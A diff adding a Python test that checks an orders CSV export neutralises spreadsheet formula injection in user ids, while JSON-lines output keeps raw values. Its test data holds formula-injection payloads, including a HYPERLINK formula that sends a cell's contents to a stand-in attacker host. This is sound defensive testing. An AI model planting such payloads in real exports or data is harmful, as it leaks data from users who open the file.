@@ -266,3 +266,23 @@ def test_wrong_queries_are_422_naming_the_field(exported, query, field):
 def test_an_unknown_export_is_404(exported):
     stack, _ = exported
     problem(http_export(stack, "refunds", **{"from": "2026-01-01", "to": "2026-02-01"}), 404, "export_not_found")
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(exported):
+    # User ids are the client's to choose; a spreadsheet opening the export must not run one.
+    stack, _ = exported
+    formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-1+1", "@SUM(A1)"]
+    for user in formulas:
+        r = stack.api.post_order(user, GOLD)
+        assert r.status_code == 201, r.text
+    day = 86_400
+    start, end = (time.strftime("%Y-%m-%d", time.gmtime(time.time() + d)) for d in (-day, 2 * day))
+    r = http_export(stack, "orders", **{"from": start, "to": end})
+    assert r.status_code == 200, r.text
+    cells = {row["user_id"] for row in csv.DictReader(io.StringIO(r.text))}
+    assert {"'" + user for user in formulas} <= cells, cells
+    assert not cells & set(formulas)
+    # Numbers keep their sign, and JSON lines (not a spreadsheet's format) keep every value.
+    assert all(not row["amount"].startswith("'") for row in csv.DictReader(io.StringIO(r.text)))
+    lines = http_export(stack, "orders", **{"from": start, "to": end, "format": "jsonl"})
+    assert set(formulas) <= {json.loads(line)["user_id"] for line in lines.text.splitlines()}
